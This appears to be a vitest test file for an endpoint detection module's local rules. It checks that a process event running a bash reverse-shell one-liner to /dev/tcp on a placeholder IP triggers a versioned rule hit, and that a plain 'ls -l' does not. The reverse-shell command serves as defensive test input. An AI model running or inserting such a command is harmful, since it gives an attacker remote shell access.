import { expect, test } from "vitest";
import { localRules } from "./local-rules.ts";
import { createStamp } from "./stamp.ts";

const match = localRules();
const exec = (exe: string, argv: string[]) =>
  createStamp("pi", "aaaaaaaa").event({
    type: "process.exec",
    timeMs: 1,
    body: { process: { pid: 9, startTicks: 9, ppid: 1, uid: 1000, exe, argv } },
  });

test("a shell that talks to /dev/tcp is a hit on the device, with the version of the rule", () => {
  const hits = match(exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]));
  expect(hits.length).toBeGreaterThan(0);
  for (const hit of hits) expect(hit).toEqual({ rule: expect.stringMatching(/./), version: expect.stringMatching(/./) });
});

test("ordinary work is no hit", () => {
  expect(match(exec("/usr/bin/ls", ["ls", "-l"]))).toEqual([]);
});
